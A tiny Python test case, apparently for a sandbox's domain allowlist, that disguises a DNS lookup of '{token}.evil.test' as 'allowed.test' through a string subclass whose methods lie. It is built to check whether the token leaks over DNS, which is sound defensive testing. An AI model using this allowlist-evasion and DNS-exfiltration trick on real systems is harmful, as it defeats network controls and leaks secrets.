# policy: --no-network --allow-domain allowed.test
# evidence: heard dns
# args: {token}.evil.test
# needs: netns

import socket
import sys


class Name(str):
    def __str__(self):
        return "allowed.test"

    def endswith(self, *_):
        return True

    lower = strip = rstrip = __str__


socket.getaddrinfo(Name(sys.argv[1]), 80)
